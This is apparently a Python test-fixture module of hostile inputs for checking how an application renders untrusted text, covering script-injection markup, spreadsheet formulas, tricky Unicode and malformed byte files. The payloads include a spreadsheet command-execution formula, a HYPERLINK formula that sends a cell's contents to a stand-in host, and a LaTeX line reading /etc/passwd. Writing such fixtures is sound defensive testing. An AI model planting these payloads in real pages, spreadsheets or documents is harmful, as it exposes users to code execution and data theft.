"""What strangers put into words: markup, formulas, odd letters, endless lines. Nothing here is any format's own."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Final

RAN: Final = "window.__pwned=1"
"""What a script that ran in a page leaves behind."""

MARKUP: Final[Mapping[str, str]] = {
    "script": f"<script>{RAN}</script>",
    "img": f"<img src=x onerror='{RAN}'>",
    "svg": f"<svg onload='{RAN}'><a href='javascript:{RAN}'><text y='9'>x</text></a></svg>",
    "iframe": f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    "handler": f"\"' onmouseover='{RAN}' autofocus onfocus='{RAN}' x='",
    "closing": f"</textarea></title></style></script--><details open ontoggle='{RAN}'>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=http://pwned.example/s.css>",
    "markdown": f"![p](http://pwned.example/p.png) [l](javascript:{RAN}) <http://pwned.example>",
    "address": "www.pwned.example http://pwned.example/x mailto:a@pwned.example ana@pwned.example",
    "directive": ":red[r] :material/home: :streamlit: :violet-badge[b] `c` **b** ~~s~~ # h",
    "mathematics": r"$\href{javascript:window.__pwned=1}{x}$ $$\input{/etc/passwd}$$ \write18{touch pwned}",
    "template": "{{constructor.constructor('window.__pwned=1')()}} ${7*7} #{7*7} <%= 7*7 %> %(x)s %s %n {0}",
    "vega": "datum['x'] + warn('x') signal:window.__pwned=1",
}
"""Text that a page, a table or a terminal could take for something to do."""

FORMULAS: Final[Mapping[str, str]] = {
    "formula": "=1+1",
    "command": "=cmd|'/C touch pwned'!A0",
    "hyperlink": '=HYPERLINK("http://pwned.example/?"&A1,"x")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "wide-sign": "\uff1d1+1",
}
"""Cells that a spreadsheet could reckon with."""

LETTERS: Final[Mapping[str, str]] = {
    "separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix\x1cseven",
    "bidirectional": "ok \u202egnirts\u202c \u2066x\u2069 \u200fRTL\u200e \u061c",
    "unseen": "a\u200bb\u00adc\u2060d\ufefe\ufeff \U000e0041\U000e0042 \ufff9x\ufffay\ufffb",
    "escapes": "\x1b[31mred\x1b[0m \x1b]8;;http://pwned.example\x07x\x1b]8;;\x07 \x07\x08\x7f",
    "marks": "Z" + "\u0335\u0321\u0489" * 3_000,
    "families": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 500,
    "private": "\ue000\uf8ff\U000f0000\U0010ffff\ufffe\uffff",
    "capitals": "\u0130\u0131\u1e9e\ufb03\u01c5" * 200,  # longer or shorter in another case
    "arabic": "\ufdfa" * 2_000,  # eighteen letters each, once normalised
}
"""Letters that break lines, turn directions, are not seen, or become more of themselves."""


def words_of(name: str) -> str:
    """Return one of the texts above by its name."""
    return next(known[name] for known in (MARKUP, FORMULAS, LETTERS) if name in known)


SHORT: Final[tuple[str, ...]] = (*MARKUP, *FORMULAS, *LETTERS)

BYTES: Final[Mapping[str, Callable[[], bytes]]] = {
    "empty": bytes,
    "blank": lambda: b" \n\t\r\n" * 1_000,
    "nul": lambda: b"P1: a\x00b\n\nI: c\n",
    "only-nul": lambda: b"\x00" * 100_000,
    "half-character": lambda: "P1: \ud800 alone \udfff\n\nI: c\n".encode("utf-8", "surrogatepass"),
    "overlong": lambda: b"P1: \xc0\xaf\xe0\x80\xaf\xf8\x88\x80\x80\xaf\n",
    "cut-character": lambda: "P1: café 😀".encode()[:-2],
    "marked-twice": lambda: b"\xef\xbb\xbf\xef\xbb\xbfP1: a\n\nI: b\n",
    "utf16-odd": lambda: "P1: a b c\n".encode("utf-16")[:-1],
    "utf16-half": lambda: b"\xff\xfe" + "P1: ".encode("utf-16-le") + b"\x00\xd8\x00\xd8",
    "utf32": lambda: "P1: a\n".encode("utf-32"),
    "beyond": lambda: b"\xff\xfe\x00\x00" + b"\xff\xff\xff\x7f" * 10,
    "all-bytes": lambda: bytes(range(256)) * 40,
    "long-line": lambda: b"P1: " + b"word " * 2_000_000,
    "long-word": lambda: b"P1: " + b"a" * 10_000_000,
    "lines": lambda: b"P1: a\n" * 150_000,
    "bare-lines": lambda: b"\n" * 3_000_000,
    "labels": lambda: b"".join(b"S%d: a\n\n" % number for number in range(60_000)),
    "colons": lambda: b":" * 1_000_000,
    "brackets": lambda: b"[" * 1_000_000,
    "quotes": lambda: b'"' * 1_000_001,
    "commas": lambda: b"," * 1_000_000,
    "angles": lambda: b"<" * 1_000_000,
    "blanks": lambda: b"P1:" + b" " * 3_000_000 + b"x\n",
    "returns": lambda: b"P1: a\r" * 100_000,
    "stars": lambda: b"**" * 500_000,
    "times": lambda: b"00:00:01.000 --> " * 100_000,
    "digits": lambda: b"9" * 1_000_000,
    "too-much": lambda: b"P1: words\n\n" * 2_500_000,
}
"""Whole files that are hardly text."""
